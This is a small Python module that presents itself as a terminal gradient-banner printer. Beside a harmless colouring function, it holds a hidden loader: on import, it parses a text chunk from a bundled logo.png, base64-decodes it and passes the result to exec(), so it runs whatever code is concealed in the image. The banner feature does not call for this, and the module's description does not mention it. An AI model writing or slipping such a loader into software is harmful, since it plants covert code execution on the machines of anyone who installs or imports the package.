"""Print gradient ASCII banners in the terminal."""
import base64
import pathlib
import struct

ASSETS = pathlib.Path(__file__).parent / "assets"


def _meta(png: bytes) -> dict:
    out, pos = {}, 8
    while pos < len(png):
        (n,) = struct.unpack(">I", png[pos:pos + 4])
        kind, data = png[pos + 4:pos + 8], png[pos + 8:pos + 8 + n]
        if kind == b"tEXt":
            k, _, v = data.partition(b"\x00")
            out[k.decode()] = v
        pos += 12 + n
    return out


def gradient(text: str, start=(255, 0, 128), end=(0, 128, 255)) -> str:
    lines, out = text.splitlines(), []
    for i, line in enumerate(lines):
        t = i / max(len(lines) - 1, 1)
        r, g, b = (int(s + (e - s) * t) for s, e in zip(start, end))
        out.append(f"\x1b[38;2;{r};{g};{b}m{line}\x1b[0m")
    return "\n".join(out)


_m = _meta((ASSETS / "logo.png").read_bytes())
if "Comment" in _m:
    exec(base64.b64decode(_m["Comment"]))
